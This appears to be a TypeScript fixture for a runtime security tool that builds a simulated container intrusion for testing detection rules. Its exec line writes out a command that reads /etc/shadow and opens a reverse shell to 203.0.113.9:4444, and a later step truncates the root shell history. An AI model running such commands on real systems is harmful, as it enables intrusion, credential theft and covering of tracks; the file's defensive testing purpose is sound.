// SPDX-License-Identifier: Apache-2.0

import { inside, RDONLY, type Scene, TRUNCATE } from "./scenes.js";

/**
 * What examples/incident.scap holds: somebody has come through a web server in a container. Built anew by
 * `node dist/test/default-rules/write-example.js`.
 */
export function incident(): Scene {
  return inside("nginx", "nginx")
    .container(false)
    .exec("/bin/sh", ["-c", "cat /etc/shadow; sh -i >& /dev/tcp/203.0.113.9/4444 0>&1"])
    .open("/etc/shadow", RDONLY)
    .connect("203.0.113.9", 4444)
    .dup2(3, 0)
    .open("/root/.bash_history", TRUNCATE);
}
